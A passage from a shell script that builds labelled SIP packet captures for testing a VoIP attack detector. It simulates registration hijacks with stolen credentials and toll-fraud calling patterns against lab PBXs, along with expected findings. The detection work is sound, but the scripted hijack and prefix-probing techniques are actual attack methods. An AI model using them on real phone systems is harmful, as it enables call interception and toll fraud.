	 "identities": ["${AUTHID[102]}"], "weakPassword": null, "rewritten": true, "trunk": "$TRUNK",
	 "phones": {"127.0.1.2": "102"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "A registration taken over with stolen credentials, on a registrar that keeps one binding per extension (a new one replaces the old). 102's Snom D785 registers from 127.0.1.2 (REGISTER, 407, REGISTER with Auth ID ${AUTHID[102]}, 200, refresh). 1 s later an attacker at 127.0.2.83 (another network) with 102's Auth ID and password and a Zoiper User-Agent registers its own Contact for 102, expires 3600: 407, REGISTER with credentials, 200 listing only the attacker's contact. Then the provider delivers an inbound call to 102: the PBX sends it to the attacker, which answers (180, 200, ACK, 2 s, BYE)."}
	EOF
}

cap_call-registration-takeover-leaky() {
	pbx_up leaky $LEAKY
	cap_start call-registration-takeover-leaky "host $LEAKY"
	register 102 leaky $LEAKY 127.0.1.2
	sleep 1
	local f
	f="$(csv takeover-102.csv "102;$(creds 102 leaky);3600;MicroSIP/3.21.3")"
	run timeout 10 sipp -sf "$SIPP/takeover-register.xml" -inf "$f" -i 127.0.2.84 -p 5060 -m 1 "$LEAKY:5060"
	f="$(csv uas-attacker.csv "MicroSIP/3.21.3;127.0.2.84;")"
	bg timeout 20 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.2.84 -p 5060 -m 1 -mp 16200
	sleep 0.3
	f="$(csv call-105.csv "105;$(creds 105 leaky);102;${UA[105]}")"
	run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i 127.0.1.5 -p 5060 -m 1 -d 2000 -mp 17000 "$LEAKY:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "leaky", "pbx": "$LEAKY", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, takeover-register.xml, phone-uas.xml, call-uac.xml), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": ["127.0.2.84"], "attacks": ["registration.hijack"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["session.dialog-hijack", "auth.bruteforce", "auth.success-after-failures", "dos.flood"],
	 "identities": ["102", "105"], "weakPassword": null, "rewritten": true,
	 "phones": {"127.0.1.2": "102", "127.0.1.5": "105"},
	 "config": $(site_config $LEAKY leaky),
	 "description": "A registration taken over with stolen credentials on a registrar that keeps several bindings. 102's Snom D785 registers from 127.0.1.2. 1 s later an attacker at 127.0.2.84 with 102's password and a MicroSIP User-Agent sends REGISTER with Contact: * and Expires: 0 (401, again with credentials, 200: every binding of 102 removed), then at once REGISTER with its own Contact, expires 3600 (200, the same nonce with nc=2). 105 then calls 102: the PBX sends the call to the attacker, which answers (180, 200, ACK, 2 s, BYE). The desk phone is not told until its next refresh."}
	EOF
}

cap_call-registration-takeover-same-ua-3cx() {
	SINGLE_CONTACT=1 pbx_up 3cx-like $TCX
	cap_start call-registration-takeover-same-ua-3cx "host $TCX"
	local f
	# The real phone registers, and refreshes 6 s later with its own Call-ID.
	f="$(csv reg-102.csv "102;$(creds 102 3cx-like);300;${UA[102]};stay")"
	bg timeout 20 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.1.2 -p 5060 -m 1 -d 6000 "$TCX:5060"
	sleep 1.5
	# The attacker copies the User-Agent it read in the phone's REGISTER.
	f="$(csv takeover-102.csv "102;$(creds 102 3cx-like);3600;${UA[102]};stay")"
	run timeout 10 sipp -sf "$SIPP/phone-register.xml" -inf "$f" -i 127.0.2.85 -p 5060 -m 1 -d 300 "$TCX:5060"
	f="$(csv uas-attacker.csv "${UA[102]};127.0.2.85;")"
	bg timeout 20 sipp -sf "$SIPP/phone-uas.xml" -inf "$f" -i 127.0.2.85 -p 5060 -m 1 -mp 16200
	sleep 0.2
	f="$(csv trunk-in.csv "+442071838750;;102;Provider-SBC/4.2")"
	run timeout 15 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$TRUNK" -p 5062 -m 1 -d 1500 -mp 19000 "$TCX:5060"
	wait_bg
	cap_stop_at $DAY; pbx_down_all
	meta <<-EOF
	{"profile": "3cx-like (SINGLE_CONTACT=1: one binding per extension)", "pbx": "$TCX", "transport": "udp", "tool": "SIPp 3.6.1 (phone-register.xml, phone-uas.xml, call-uac.xml as the provider), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": ["127.0.2.85"], "attacks": ["registration.hijack"], "findings": [],
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"],
	 "mustNotFind": ["session.dialog-hijack", "auth.bruteforce", "auth.success-after-failures", "call.unauthenticated-accepted", "dos.flood"],
	 "identities": ["${AUTHID[102]}"], "weakPassword": null, "rewritten": true, "trunk": "$TRUNK",
	 "phones": {"127.0.1.2": "102"},
	 "config": $(site_config $TCX 3cx-like),
	 "description": "A registration takeover that copies the victim's User-Agent, on a registrar that keeps one binding per extension. 102's Snom D785 registers from 127.0.1.2 (REGISTER, 407, REGISTER with Auth ID ${AUTHID[102]}, 200). 1.5 s later an attacker at 127.0.2.85 (another network) with 102's Auth ID and password sends the phone's own User-Agent (${UA[102]}, read in its REGISTER) and registers its Contact for 102: 407, REGISTER with credentials, 200 listing only the attacker's contact. The provider's inbound call to 102 then rings at the attacker, which answers (180, 200, ACK, 1.5 s, BYE). 6 s after its first REGISTER the real phone refreshes with its own Call-ID (CSeq 3) and the registrar gives the binding back to it: the copied User-Agent hides the takeover until the real phone, still alive, comes back from its own network with the Call-ID of its earlier registrations, while the attacker's binding came with another Call-ID."}
	EOF
}

# fraud_capture NAME PROFILE PBX ATTACKER EXT UA CONCURRENT HOLD_MS AT NUMBER...:
# an attacker with EXT's stolen credentials dials NUMBERs through the
# PSTN=auth PBX (CONCURRENT at once, each held HOLD_MS); the provider (SIPp
# at the trunk) answers the ones the PBX routes (N_ROUTED, env, default all).
fraud_capture() {
	local name="$1" profile="$2" pbx="$3" attacker="$4" ext="$5" ua="$6" conc="$7" hold="$8" at="$9" f
	shift 9
	PSTN=auth pbx_up "$profile" "$pbx"
	cap_start "$name" "host $pbx"
	f="$(csv uas-trunk.csv "Provider-SBC/4.2")"
	bg timeout 60 sipp -sf "$SIPP/call-uas.xml" -inf "$f" -i "$TRUNK" -p 5060 -m "${N_ROUTED:-$#}" -mp 18000
	sleep 0.5
	local -a lines=() n
	for n in "$@"; do lines+=("$ext;$(creds "$ext" "$profile");$n;$ua"); done
	f="$(csv fraud-calls.csv "${lines[@]}")"
	run timeout 60 sipp -sf "$SIPP/call-uac.xml" -inf "$f" -i "$attacker" -p 5060 -m $# -l "$conc" -r "$conc" -d "$hold" -recv_timeout 5000 -mp 17000 "$pbx:5060"
	if [ "${N_ROUTED:-$#}" -gt 0 ]; then wait_bg; else bg_pids=(); fi
	cap_stop_at "$at"; pbx_down_all
}

# fraud_meta NAME PROFILE PBX ATTACKER ATTACKS MAYFIND MUSTNOT IDENTITY DESCRIPTION [FINDINGS] [GAP] [FROM_RULE]
# FROM_RULE: a rule under mayFind (a false positive elsewhere) still required for ATTACKER.
fraud_meta() {
	local gap=""
	[ -n "${11:-}" ] && gap=", \"detectionGap\": \"${11}\""
	[ -n "${12:-}" ] && gap="$gap, \"mustFindFrom\": {\"${12}\": [\"$4\"]}"
	meta <<-EOF
	{"profile": "$2 (PSTN=auth: outside numbers routed to the trunk after authentication)", "pbx": "$3", "transport": "udp",
	 "tool": "SIPp 3.6.1 (call-uac.xml with stolen credentials; call-uas.xml as the provider), then test/lab/bin/pcap-rewrite.py --shift-to",
	 "attackers": ["$4"], "attacks": [$5], "findings": [${10:-}]$gap,
	 "mayFind": ["exposure.vulnerable-version", "crypto.predictable-identifiers"$6],
	 "mustNotFind": [$7],
	 "identities": ["$8"], "weakPassword": null, "rewritten": true, "trunk": "$TRUNK",
	 "config": $(site_config "$3" "$2"),
	 "description": "$9"}
	EOF
}

INTL_NUMBERS=(9005372345678 +2522345678 90023276123456 +37052123456 9002348012345678 +18092345678
	+5352345678 90037167000001 +2322212345 +37060012345 +23276987654 900252613456789)
cap_call-fraud-international-burst-leaky() {
	fraud_capture call-fraud-international-burst-leaky leaky $LEAKY 127.0.2.90 101 "Linphone/3.6.1 (eXosip2/4.1.0)" 12 6000 $DAY "${INTL_NUMBERS[@]}"
	fraud_meta call-fraud-international-burst-leaky leaky $LEAKY 127.0.2.90 \
		'"fraud.international-destination", "fraud.call-volume", "fraud.concurrent-calls"' ', "auth.weak-password"' \
		'"fraud.premium-destination", "fraud.off-hours", "fraud.prefix-probing", "fraud.sequential-dialing", "call.unauthenticated-accepted", "session.dialog-hijack", "auth.bruteforce", "dos.flood"' 101 \
		"A burst of international calls with stolen credentials. An attacker at 127.0.2.90 with extension 101's password ('1234', cracked) dials 12 numbers in countries the site does not call (Cuba, Somalia, Sierra Leone, Lithuania, Nigeria, the Dominican Republic, Latvia; fixed, mobile and unassigned-type numbers, none premium-rate), 12 at once: each INVITE, 407, ACK, INVITE with credentials, 100; the PBX drops the 9 and relays it to the provider at $TRUNK, which answers (180, 200); ACK; the 12 calls are up together for 6 s; BYE. Tuesday 2026-03-03 10:00 Europe/London (recorded, then moved): business hours. Over the site's caps: 12 simultaneous calls (limit 10) and 12 new calls in an hour (cap 10 in this site's configuration). The PBX proxies: both legs of each call (attacker to PBX with credentials, PBX to trunk without) share Call-ID and tags, and the trunk answers on the PBX's leg; the calls count under the phone that dialled them (identity 101, source 127.0.2.90), never under the PBX, declared or not."
}

PREMIUM_NUMBERS=(909098798989 +88213456789 900881612345678 +37190012345 +9799012345 909062123456)
cap_call-fraud-premium-burst-3cx() {
	fraud_capture call-fraud-premium-burst-3cx 3cx-like $TCX 127.0.2.91 103 "3CXPhone for Windows 16.3.0.292" 6 4000 $DAY "${PREMIUM_NUMBERS[@]}"
	fraud_meta call-fraud-premium-burst-3cx 3cx-like $TCX 127.0.2.91 \
		'"fraud.premium-destination", "fraud.international-destination"' ', "auth.weak-password"' \
		'"fraud.off-hours", "fraud.prefix-probing", "fraud.sequential-dialing", "fraud.call-volume", "fraud.concurrent-calls", "call.unauthenticated-accepted", "session.dialog-hijack", "auth.bruteforce", "dos.flood"' "${AUTHID[103]}" \
		"A burst of premium-rate and high-risk calls. An attacker at 127.0.2.91 with extension 103's Auth ID ${AUTHID[103]} and password ('103', guessed) dials 6 numbers at once: 9 0909 879 8989 and 9 0906 212 3456 (UK premium rate), +882 13456789 (international networks), 9 00 881 612345678 (Iridium satellite), +371 90012345 (Latvian premium rate), +979 9012345 (international premium rate). Each: INVITE, 407, ACK, INVITE with credentials, 100; the PBX relays it to the provider at $TRUNK (the 9 dropped), which answers; the calls are up together for 4 s; BYE. Tuesday 2026-03-03 10:00 Europe/London (recorded, then moved). The PBX proxies: both legs of each call (attacker to PBX with credentials, PBX to trunk without) share Call-ID and tags; the calls count under the phone that dialled them (Auth ID ${AUTHID[103]}, source 127.0.2.91), never under the PBX, declared or not. Read without a dial plan, a number dialled with the 9 is judged in the form the PBX sent on (00 881 612345678); the UK premium-rate numbers then do not read."
}

PROBE_NUMBERS=(037167000001 01137167000001 9+37167000001 90037167000001 0037167000001 +37167000001 901137167000001)
cap_call-fraud-prefix-probing-leaky() {
	N_ROUTED=4 fraud_capture call-fraud-prefix-probing-leaky leaky $LEAKY 127.0.2.92 101 "Linphone/3.6.1 (eXosip2/4.1.0)" 1 1000 $DAY "${PROBE_NUMBERS[@]}"
	fraud_meta call-fraud-prefix-probing-leaky leaky $LEAKY 127.0.2.92 \
		'"fraud.international-destination", "fraud.prefix-probing"' ', "auth.weak-password"' \
		'"fraud.premium-destination", "fraud.off-hours", "fraud.sequential-dialing", "fraud.concurrent-calls", "fraud.call-volume", "call.unauthenticated-accepted", "auth.bruteforce", "dos.flood"' 101 \
		"Prefix probing with stolen credentials: an attacker at 127.0.2.92 with extension 101's password looks for the route out by dialling one Latvian number, +371 67000001, in 7 forms one after the other: 0 371..., 011 371..., 9 + 371..., 9 00 371..., 00 371..., +371..., 9 011 371.... The PBX's dial plan routes only +, 00 and 9 followed by digits: 0 371..., 011 371... and 9+371... are answered 404 at once, without a challenge (the leaky profile's unknown-extension answer); the other four are challenged (407) and, with the credentials, go to the provider (the 9 dropped), which answers; each answered call lasts 1 s. Under the site's UK dial plan 0 371... is a national number; the other six are the same E.164 number. Tuesday 2026-03-03 10:00 Europe/London (recorded, then moved). The leaky PBX answers 404 at once to the forms its dial plan does not route and 407 to the others: the enumeration oracle (a finding). The PBX passes the routed forms on to the trunk without the 9 (00 371..., 00 371..., +371..., 011 371...: frames 15, 31, 47, 63), three forms from its own address: those onward legs belong to the attacker's calls and are not the PBX probing." \
		'"exposure.enumeration-oracle"'
}

SEQ_NUMBERS=(902079460100 902079460101 902079460102 902079460103 902079460104 902079460105
	902079460106 902079460107 902079460108 902079460109 902079460110 902079460111)
cap_call-fraud-sequential-leaky() {
	fraud_capture call-fraud-sequential-leaky leaky $LEAKY 127.0.2.93 101 "Linphone/3.6.1 (eXosip2/4.1.0)" 1 500 $DAY "${SEQ_NUMBERS[@]}"
	fraud_meta call-fraud-sequential-leaky leaky $LEAKY 127.0.2.93 \
		'"fraud.call-volume", "fraud.sequential-dialing"' ', "auth.weak-password"' \
		'"fraud.premium-destination", "fraud.international-destination", "fraud.off-hours", "fraud.prefix-probing", "fraud.concurrent-calls", "call.unauthenticated-accepted", "auth.bruteforce", "dos.flood"' 101 \
		"Sequential dialling with stolen credentials: an attacker at 127.0.2.93 with extension 101's password dials the UK range 9 020 7946 0100 to 0111, one number after the other (12 calls): INVITE, 407, ACK, INVITE with credentials, 100; the PBX relays each to the provider at $TRUNK (the 9 dropped), which answers; 0.5 s; BYE. National numbers in business hours (Tuesday 2026-03-03 10:00 Europe/London, recorded then moved): only the pattern, and the 12 new calls in an hour over the site's cap of 10, give it away. The PBX's onward legs to the trunk (020 7946 0100 ... 0111 without the 9: frames 6, 22, ... 182) are the same sequence from the PBX's address: they belong to the attacker's calls and are not the PBX dialling."
}

cap_call-fraud-night-leaky() {
	fraud_capture call-fraud-night-leaky leaky $LEAKY 127.0.2.94 104 "Zoiper rv2.10.20.1" 1 2000 $NIGHT 9003314268530 +4915112345678 +35312345678 902079460123
	fraud_meta call-fraud-night-leaky leaky $LEAKY 127.0.2.94 \
		'"fraud.off-hours"' '' \
		'"fraud.international-destination", "fraud.premium-destination", "fraud.prefix-probing", "fraud.sequential-dialing", "fraud.concurrent-calls", "fraud.call-volume", "call.unauthenticated-accepted", "auth.bruteforce", "dos.flood"' 104 \
		"Calls at night with stolen credentials. An attacker at 127.0.2.94 with extension 104's password (a strong one, leaked) calls, one after the other, 9 00 33 1 42 68 53 0 (France), +49 151 12345678 (a German mobile), +353 1 2345678 (Ireland) and 9 020 7946 0123 (national): INVITE, 407, ACK, INVITE with credentials, 100; the PBX relays each to the provider at $TRUNK (the 9 dropped), which answers; 2 s; BYE. Recorded, then moved as a whole (pcap-rewrite.py --shift-to) to Wednesday 2026-03-04 02:30 Europe/London, outside the site's business hours (Monday-Friday 08:00-19:00). Every country is one the site calls: only the hour gives it away (the national call is not reported)."
}

for name in "${selected[@]}"; do
	"cap_$name"
done

/usr/bin/python3 "$here/bin/summarize.py" "$work/meta" "$out"
